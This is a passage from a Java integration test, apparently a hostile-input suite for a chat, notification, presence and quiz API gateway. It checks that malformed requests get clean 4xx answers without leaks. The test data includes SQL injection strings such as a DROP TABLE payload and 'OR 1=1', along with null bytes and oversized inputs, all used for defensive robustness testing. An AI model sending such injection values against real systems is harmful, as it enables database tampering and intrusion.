        gets.put("/api/chat/rooms/" + room + "/messages?limit=99999999999999999999", Set.of(400));
        gets.put("/api/chat/rooms/" + room + "/messages?afterSeq=-1", Set.of(400));
        gets.put("/api/chat/rooms/" + room + "/messages?beforeSeq=1e30", Set.of(400));
        gets.put("/api/chat/search?q=" + "q".repeat(5000), Set.of(414)); // over Netty's 4 KB request line
        gets.put("/api/chat/search?q=" + URLEncoder.encode("'\" & | ! ( ) :* <-> \\", StandardCharsets.UTF_8), Set.of(200));
        gets.put("/api/chat/search?q=x&limit=-3", Set.of(400));
        gets.put("/api/chat/rooms/" + URLEncoder.encode("'; DROP TABLE chat_rooms;--", StandardCharsets.UTF_8), Set.of(400, 404));
        gets.put("/api/chat/rooms/%00", Set.of(400, 404));
        gets.put("/api/chat/rooms/" + "r".repeat(5000), Set.of(414));
        gets.put("/api/chat/rooms/" + room + "/messages/%00/thread", Set.of(400, 404));
        gets.put("/api/notifications?limit=-5", Set.of(400));
        gets.put("/api/notifications?limit=abc", Set.of(400));
        gets.put("/api/notifications?beforeSeq=-1", Set.of(400));
        gets.put("/api/notifications?kind=nonsense", Set.of(400));
        gets.put("/api/presence?userIds=", Set.of(200, 400));
        gets.put("/api/presence?userIds=" + String.join(",", IntStream.range(0, 500).mapToObj(i -> "u" + i).toList()), Set.of(400, 403));
        gets.put("/api/presence/rooms/%00/online", Set.of(400, 403, 404));
        gets.put("/api/quiz/quizzes/" + URLEncoder.encode("1 OR 1=1", StandardCharsets.UTF_8), Set.of(404));
        gets.put("/api/quiz/sessions/by-code/%27%20OR%201%3D1", Set.of(404));
        gets.put("/api/quiz/sessions/by-code/-1", Set.of(404));
        gets.put("/api/quiz/sessions/%00/results", Set.of(400, 404));
        for (Map.Entry<String, Set<Integer>> get : gets.entrySet()) {
            cases.add(new HttpCase(get.getKey().contains("q=") ? "huge strings / search syntax" : get.getKey().contains("=")
                    ? "negative/huge numbers in queries" : "SQL injection in paths", "GET", get.getKey(), student, null, null, get.getValue()));
        }
        List<String> mismatches = new ArrayList<>();
        for (HttpCase c : cases) {
            count("HTTP: " + c.inputClass());
            HttpResponse<String> response = c.contentType() == null ? send(gateway, c.method(), c.path(), c.token(), null)
                    : send(gateway, c.method(), c.path(), c.token(), c.body(), c.contentType());
            String what = c.method() + " " + abbreviate(c.path()) + " (" + c.inputClass() + ")";
            boolean problem = response.statusCode() >= 400;
            // A refusal with a body is a problem with its code; an empty one comes from below the
            // application (Netty's 414, the Spring Security firewall's 400 for %00 or an encoded ';').
            if (response.statusCode() >= 500 || Hostile.leaks(response.body()) || !c.statuses().contains(response.statusCode())
                    || (problem && !response.body().isEmpty() && problemCode(response) == null)) {
                mismatches.add(what + " → " + response.statusCode() + " " + abbreviate(response.body()));
            }
        }
        assertThat(mismatches).as("HTTP answers that differ from the documented 4xx problem").isEmpty();
        assertANewClientIsServed(gateway, "corpus-next");
        assertANewClientIsServed(TestMesh.get().gateway1, "corpus-next");
    }
}
